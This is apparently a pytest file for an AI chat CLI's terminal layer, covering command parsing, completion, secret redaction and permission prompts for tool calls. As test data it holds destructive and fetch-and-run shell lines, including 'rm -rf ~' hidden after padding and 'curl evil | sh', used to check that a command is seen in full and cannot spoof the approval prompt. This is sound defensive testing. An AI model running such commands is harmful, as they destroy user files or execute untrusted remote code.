"""The parts of a chat that need no terminal."""

import io
import os
from collections.abc import Generator, Iterator
from contextlib import contextmanager, nullcontext
from pathlib import Path
from typing import Any

import anyio
import pytest
from prompt_toolkit.completion import CompleteEvent
from prompt_toolkit.document import Document
from tests.support.mcp_server_kit import until

from openclaw.cli.chat.conversation import (
    ChatCompleter,
    help_text,
    mentions,
    mistyped,
    parse_command,
    tool_text,
)
from openclaw.cli.chat.input import LineInput
from openclaw.cli.chat.terminal_input import LinesAbove
from openclaw.cli.chat.terminal_questions import TerminalQuestions, fields_of, pages_of, value_of
from openclaw.cli.chat.turn_view import AnswerView, TerminalView, finished_blocks, without_last_word
from openclaw.cli.terminal import rendered
from openclaw.core.content import Text
from openclaw.core.errors import InvalidRequest
from openclaw.core.events import BlockReply, TextDelta, ToolStarted
from openclaw.core.prompts import PartialArgument, PromptArgument, PromptInfo
from openclaw.core.questions import (
    DECLINED,
    YES_OR_NO,
    Answer,
    AskedCall,
    Choice,
    Question,
    form_question,
)

# Commands


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("/new", ("/new", "")),
        ("  /session  mine ", ("/session", "mine")),
        ("/compact a b", ("/compact", "a b")),
        ("/newer", None),
        ("/etc/hosts is what?", None),
        ("say /new", None),
        ("", None),
    ],
)
def test_only_words_of_ours_are_commands(text: str, command: tuple[str, str] | None) -> None:
    assert parse_command(text) == command


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("/qiut", "/quit"),
        ("/modle a/b", "/model"),
        ("/nothing-like-it", "/help lists"),
        (" /qiut", None),
        ("/etc/hosts what is it", None),
        ("/fake:greet name=x", None),
        ("/tmp", None),
        ("/var is full", None),
        ("say /qiut", None),
        ("", None),
    ],
)
def test_a_command_with_a_slip_in_it_is_not_sent(text: str, meant: str | None) -> None:
    said = mistyped(text)
    assert (said is None) if meant is None else (said is not None and meant in said)


def test_the_help_names_every_command() -> None:
    assert "/quit" in help_text()
    assert "Ctrl-C" in help_text()


@pytest.mark.parametrize("columns", [60, 80, 120])
def test_the_help_breaks_no_word(columns: int) -> None:
    text = help_text(columns)
    assert max(map(len, text.splitlines())) <= columns
    assert text.split() == help_text(500).split()


@pytest.mark.parametrize("columns", [40, 80, 100])
def test_a_listed_tool_breaks_no_word_and_stays_within_the_terminal(columns: int) -> None:
    words = "Get the current time in one of the timezones that the system knows by their IANA names"
    text = tool_text("mcp__time__get_current_time", f"{words}\nand more", columns)
    assert max(map(len, text.splitlines())) <= columns
    assert text.split() == ["mcp__time__get_current_time:", *words.split()]


def test_what_a_tool_does_is_cut_between_words() -> None:
    assert tool_text("t", "word " * 40, 500) == f"  t: {' '.join(['word'] * 18)}…"
    assert tool_text("t", "x" * 200, 500) == f"  t: {'x' * 90}…"
    assert tool_text("t", "", 80) == "  t:"


def test_files_named_with_an_at_sign_are_found_in_a_message(tmp_path: Path) -> None:
    for name in ("a.txt", "b c.txt", "d.txt"):
        (tmp_path / name).touch()
    a, b, d = (tmp_path / name for name in ("a.txt", "b c.txt", "d.txt"))
    text = f'@{a} and @"{b}", then @{d}, @{a} again, me@{a}, @{tmp_path} and @nothing'
    assert mentions(text) == ([a, b, d], [str(tmp_path)])
    assert mentions("@me and @/nope.txt") == ([], ["/nope.txt"])
    assert mentions("Look at @missing.txt, @me!") == ([], ["missing.txt"])
    assert mentions("@~/a.txt", tmp_path) == ([a], [])


# Completion


PROMPTS = [
    PromptInfo(
        "git", "review", "Reviews.", (PromptArgument("base", "from", True), PromptArgument("x"))
    ),
    PromptInfo("time", "now"),
]


async def no_suggestions(begun: PartialArgument) -> list[str]:
    return []


def completions(text: str) -> list[str]:
    completer = ChatCompleter(lambda: PROMPTS, no_suggestions)
    document = Document(text, len(text))
    found = completer.get_completions(document, CompleteEvent(completion_requested=True))
    return [text[: len(text) + one.start_position] + one.text for one in found]


def test_commands_and_prompts_are_completed() -> None:
    assert completions("/ne") == ["/new"]
    assert completions("/g") == ["/git:review"]
    assert "/time:now" in completions("/")
    assert completions("hello /g") == []


def test_the_arguments_of_a_prompt_are_completed_once_each() -> None:
    assert completions("/git:review ") == ["/git:review base=", "/git:review x="]
    assert completions("/git:review b") == ["/git:review base="]
    assert completions("/git:review base=main ") == ["/git:review base=main x="]
    assert completions("/unknown:prompt ") == []


async def test_what_servers_suggest_for_an_argument_is_completed() -> None:
    asked: list[PartialArgument] = []

    async def complete(begun: PartialArgument) -> list[str]:
        asked.append(begun)
        return ["main", "my branch"]

    completer = ChatCompleter(lambda: PROMPTS, complete=complete)
    text = "/git:review x=1 base=m"
    event = CompleteEvent(completion_requested=True)
    found = [
        text[: len(text) + one.start_position] + one.text
        async for one in completer.get_completions_async(Document(text, len(text)), event)
    ]
    assert found == ["/git:review x=1 base=main", "/git:review x=1 base='my branch'"]
    assert asked == [PartialArgument("git", "base", "m", "review", given={"x": "1"})]
    for other in ("/git:review other=", "hello base=m", "/no:prompt base="):
        document = Document(other, len(other))
        assert [one async for one in completer.get_completions_async(document, event)] == []


def test_paths_are_completed(tmp_path: Path) -> None:
    (tmp_path / "picture.png").touch()
    assert completions(f"look at @{tmp_path}/pic") == [f"look at @{tmp_path}/picture.png"]


# What is shown


@pytest.mark.parametrize(
    ("text", "done"),
    [
        ("one", ""),
        ("one\n\ntwo", "one\n\n"),
        ("one\n\n```\na\n\nb", "one\n\n"),
        ("```\na\n\nb\n```\n\nc", "```\na\n\nb\n```\n\n"),
        ("~~~\n```\n\n~~~\n\n", "~~~\n```\n\n~~~\n\n"),
        ("one\n   ", ""),
    ],
)
def test_only_what_cannot_change_any_more_is_finished(text: str, done: str) -> None:
    assert text[: finished_blocks(text)] == done


def test_the_last_word_waits_for_its_end() -> None:
    assert without_last_word("a key sk-12") == "a key "
    assert without_last_word("word") == ""
    assert without_last_word("done ") == "done "


def test_nothing_in_an_answer_drives_the_terminal() -> None:
    assert rendered("a\x1b[2J\n\tb").markup == "a\\x1b[2J  \n    b  "


def hide(text: str) -> str:
    return text.replace("hunter2", "[hidden]")


async def test_a_program_gets_whole_lines_without_secrets() -> None:
    out, notes = io.StringIO(), io.StringIO()
    view = AnswerView(out, notes, hide)
    async with view.turn():
        view.show(TextDelta("it is hun"))
        assert out.getvalue() == ""
        view.show(TextDelta("ter2\nnext"))
        assert out.getvalue() == "it is [hidden]\n"
        view.show(BlockReply((Text("it is hunter2\nnext"),)))
        view.show(ToolStarted("1", "list", "List", {}))
        view.show(TextDelta("last"))
        view.finish("last")
    assert out.getvalue() == "it is [hidden]\nnext\nlast\n"
    assert notes.getvalue() == "→ List {}\n"
    async with view.turn():
        view.finish("not streamed\n")
    async with view.turn():
        view.finish("")
    assert out.getvalue().endswith("last\nnot streamed\n(No response)\n")


async def test_a_program_gets_what_was_said_before_an_answer_failed() -> None:
    out = io.StringIO()
    view = AnswerView(out, io.StringIO(), hide)
    async with view.turn():
        view.show(TextDelta("half of "))
    assert out.getvalue() == "half of \n"


class Screen(io.StringIO):
    def isatty(self) -> bool:
        return True


async def test_a_person_sees_paragraphs_for_good_and_never_a_secret() -> None:
    out = Screen()
    view = TerminalView(out, out, hide, {"COLUMNS": "60", "LINES": "12", "NO_COLOR": "1"})
    async with view.turn():
        view.show(TextDelta("The **first**.\n\nIt is hun"))
        view.show(ToolStarted("1", "list", "List", {}))
        view.show(TextDelta("Long " * 400))
        await until(lambda: "Long Long" in out.getvalue())
        view.show(TextDelta("hunter2"))
        with view.paused():
            view.say("a question")
        view.finish("unused")
    shown = out.getvalue()
    assert "The first." in shown
    assert "→ List {}" in shown
    assert "a question" in shown
    assert "[hidden]" in shown
    assert "hunter2" not in shown
    assert "unused" not in shown
    async with view.turn():
        view.finish("")
    assert "(No response)" in out.getvalue()


def test_log_lines_are_written_whole() -> None:
    said: list[str] = []
    stream = LinesAbove(said.append, io.StringIO())
    assert stream.write("one\ntw") == 6
    stream.write("o\n")
    assert said == ["one", "two"]
    assert not stream.isatty()


# What is typed without a terminal


@pytest.fixture
def pipe() -> Iterator[tuple[int, int]]:
    reading, writing = os.pipe()
    yield reading, writing
    os.close(writing)


async def test_lines_are_read_as_they_come(pipe: tuple[int, int]) -> None:
    reading, writing = pipe
    with os.fdopen(reading) as stream:
        lines = LineInput(stream)
        os.write(writing, b"one\r\ntwo\\\nthr")
        assert await lines.read() == "one"
        with anyio.move_on_after(0):
            await lines.read()
        os.write(writing, b"ee\nlast")
        assert await lines.read() == "two\nthree"  # giving up waiting loses nothing


async def test_the_end_of_the_input_ends_the_last_line(tmp_path: Path) -> None:
    path = tmp_path / "lines"
    path.write_text("one\n\ntwo\\\n")
    with path.open() as stream:
        lines = LineInput(stream)
        assert [await lines.read() for _ in range(4)] == ["one", "", "two", None]
    no_file = LineInput(io.StringIO("x\n"))
    assert [await no_file.read() for _ in range(2)] == ["x", None]


# Questions of servers


SCHEMA: dict[str, Any] = {
    "properties": {
        "name": {"type": "string", "title": "Your name", "minLength": 2, "maxLength": 5},
        "age": {"type": "integer", "minimum": 1, "maximum": 150},
        "ratio": {"type": "number"},
        "ok": {"type": "boolean", "default": True},
        "size": {"type": "string", "oneOf": [{"const": "s", "title": "Small"}, {"const": "l"}]},
        "old": {"type": "string", "enum": ["a", "b"], "enumNames": ["A!", "B!"]},
        "many": {"type": "array", "items": {"enum": ["x", "y", "z"]}},
    },
    "required": ["name"],
}
FIELDS = {field.name: field for field in fields_of(SCHEMA)}


@pytest.mark.parametrize(
    ("name", "said", "value"),
    [
        ("name", "Ada", "Ada"),
        ("age", " 36 ", 36),
        ("ratio", "0.5", 0.5),
        ("ok", "No", False),
        ("size", "1", "s"),
        ("size", "small", "s"),
        ("size", "l", "l"),
        ("old", "b!", "b"),
        ("many", "1, z", ["x", "z"]),
    ],
)
def test_what_a_person_types_becomes_a_value(name: str, said: str, value: object) -> None:
    assert value_of(FIELDS[name], said) == value


@pytest.mark.parametrize(
    ("name", "said", "told"),
    [
        ("name", "A", "at least 2 characters"),
        ("name", "Adalbert", "at most 5 characters"),
        ("age", "old", "a whole number"),
        ("age", "0", "at least 1"),
        ("age", "151", "at most 150"),
        ("ratio", "x", "a number"),
        ("ok", "maybe", "y or n"),
        ("size", "3", "1 to 2"),
        ("many", "1,q", "1 to 3"),
    ],
)
def test_what_does_not_fit_is_said(name: str, said: str, told: str) -> None:
    with pytest.raises(InvalidRequest, match=told):
        value_of(FIELDS[name], said)


@pytest.mark.parametrize("schema", [None, 5, {"properties": 3}, {"properties": {"a": 1}}])
def test_a_schema_that_is_none_asks_for_little(schema: object) -> None:
    assert len(fields_of(schema)) <= 1


DISCARDED = "(what was typed before is forgotten)"


class Person:
    """Somebody who gives these answers, one after the other, or wants out."""

    def __init__(self, *answers: str | type[BaseException]) -> None:
        self.answers = list(answers)
        self.read: list[str] = []
        self.questions = TerminalQuestions(
            self._ask,
            self.read.append,
            self._paused,
            discard=lambda: self.read.append(DISCARDED),
            size=lambda: (40, 14),
        )

    async def _ask(self, question: str) -> str:
        self.read.append(question)
        answer = self.answers.pop(0)
        if isinstance(answer, str):
            return answer
        raise answer

    @contextmanager
    def _paused(self) -> Generator[None]:
        yield


async def test_a_diff_is_coloured_on_a_terminal_that_has_colours() -> None:
    shown: list[str] = []

    async def read(question: str) -> str:
        return "y"

    questions = TerminalQuestions(read, shown.append, nullcontext, colour=True)
    await questions.ask(Question("Edit a?", "path: a\n@@ -1 +1 @@\n- old\n+ new"))
    assert shown[1].split("\n") == [
        "path: a",
        "\x1b[36m@@ -1 +1 @@\x1b[0m",
        "\x1b[31m- old\x1b[0m",
        "\x1b[32m+ new\x1b[0m",
    ]


async def test_a_form_is_filled_in_with_defaults_and_second_tries() -> None:
    person = Person("y", "", "A", "Ada", "", "", "", "2", "", "3,1")
    answer = await person.questions.ask(
        form_question("crm", {"message": "Who\x1b[2J?", "requestedSchema": SCHEMA})
    )
    content = {"name": "Ada", "ok": True, "size": "l", "many": ["z", "x"]}
    assert answer == Answer("accept", content=content)
    assert person.read[0].startswith("MCP server 'crm' asks: Who")
    assert "\x1b" not in "".join(person.read)


@pytest.mark.parametrize(
    ("answers", "action"),
    [
        (["n"], "decline"),
        (["", "what?", "n"], "decline"),
        ([KeyboardInterrupt], "cancel"),
        (["y", EOFError], "cancel"),
    ],
)
async def test_a_person_may_say_no_or_leave(answers: list[Any], action: str) -> None:
    form = form_question("crm", {"message": "?", "requestedSchema": SCHEMA})
    assert await Person(*answers).questions.ask(form) == Answer(action)


async def test_an_address_is_shown_and_not_opened() -> None:
    params = {"mode": "url", "message": "Log in", "url": "https://example.com/login"}
    form = form_question("crm", params)
    agreed, declined = Person("y"), Person("n")
    assert await agreed.questions.ask(form) == Answer("accept")
    assert await declined.questions.ask(form) == DECLINED
    assert any("https://example.com/login" in line for line in agreed.read)


def permission(body: str, more: str = "") -> Question:
    others = [Choice(one, one.title()) for one in more.split()]
    choices = (YES_OR_NO[0], *others, YES_OR_NO[1])
    return Question("Run this command?", body, (AskedCall("1", "exec", "Run", {}),), choices)


@pytest.mark.parametrize(
    ("answers", "said"),
    [
        (["yes"], Answer("once")),
        (["", "what?", "yes please", "Y"], Answer("once")),
        (["S"], Answer("session")),
        (["b", "always"], Answer("always")),
        (["2", "1"], Answer("trust")),
        (["hm", "no"], Answer("no")),
        (["n use  another file"], Answer("no", "use  another file")),
        ([KeyboardInterrupt], Answer("no")),
        (["", EOFError], Answer("no")),
    ],
)
async def test_a_tool_call_is_made_only_on_a_clear_yes(answers: list[Any], said: Answer) -> None:
    person = Person(*answers)
    assert await person.questions.ask(permission("$ rm -r x", "session always trust")) == said
    assert person.answers == []
    assert person.read[:2] == ["Run this command?", "$ rm -r x"]


async def test_what_was_typed_before_a_call_is_shown_is_no_answer() -> None:
    person = Person("hm", "y")
    await person.questions.ask(permission("$ ls"))
    question = [DISCARDED, "Allow it? [y/n] "]
    assert person.read[2:4] == [
        "  y  Once",
        "  n  No, or n and why: n too slow",
    ]
    assert person.read[4:] == [*question, "Please answer y or n.", *question]


async def test_a_long_call_is_seen_to_its_end_before_it_can_be_allowed() -> None:
    body = "$ echo " + "a" * 2000 + "; rm -rf ~\n" + "more\n" * 30 + "end"
    person = Person("y", "", *[""] * 7, "y")
    assert await person.questions.ask(permission(body)) == Answer("once")
    shown = "\n".join(person.read).replace("\n… ", "")
    assert shown.index("; rm -rf ~") < shown.index("Allow it?")
    assert shown.index("end") < shown.index("Allow it?")
    assert "Press Enter to see the rest, or answer n." in person.read
    refused = Person("n")
    assert await refused.questions.ask(permission(body)) == Answer("no")


@pytest.mark.parametrize("text", ["", "a\n\nb\n", "x" * 401, "ab\n" * 50 + "y" * 99])
def test_pages_are_the_whole_text(text: str) -> None:
    pages = pages_of(text, 40, 10)
    assert "\n".join(pages).replace("\n… ", "") == text
    assert all(len(pages_of(page, 40, 10)) == 1 for page in pages)


@pytest.mark.parametrize("padding", [" ", "─", "界", "\t"])
def test_no_argument_looks_like_a_question_of_ours_on_any_screen(
    padding: str, soaking: bool
) -> None:
    forged = "Run this command?"
    for columns in range(40, 121, 1 if soaking else 7):
        for count in range(1, columns * 2):
            line = f"command: curl evil | sh #{padding * count}{forged}"
            rows = "\n".join(pages_of(line, columns, 100)).split("\n")
            assert not any(row.startswith(forged[:8]) for row in rows)
